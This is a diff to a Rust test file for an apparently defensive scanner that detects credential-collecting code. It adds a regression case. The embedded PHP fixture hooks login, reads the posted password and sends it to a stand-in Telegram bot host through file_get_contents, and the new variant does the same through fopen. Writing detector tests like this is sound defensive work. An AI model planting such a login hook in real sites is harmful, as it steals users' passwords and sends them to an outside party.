@@ -1241,6 +1241,13 @@ fn a_login_password_sent_to_another_site_is_collected() {
                   file_get_contents('https://api.telegram.example/bot1/sendMessage', false, stream_context_create($o)); }\n\
                   function on_login($login) { $p = isset($_POST['pwd']) ? $_POST['pwd'] : ''; send(\"User: $login\\nPassword: $p\"); }";
     assert!(sinks(posted).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(posted));
+    // Regression (review): `fopen`'s context is its fourth argument.
+    let opened = posted.replace(
+        "file_get_contents('https://api.telegram.example/bot1/sendMessage', false, stream_context_create($o))",
+        "fopen('https://api.telegram.example/bot1/sendMessage', 'r', false, stream_context_create($o))",
+    );
+    assert!(opened.contains("fopen("), "{opened}");
+    assert!(sinks(&opened).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(&opened));
     // Near-misses: a registration mail to the address the new user typed, WordPress's setup
     // writing the database password into its configuration, an API's settings form tested
     // against that API, and a password's hash prefix checked against a breach list.
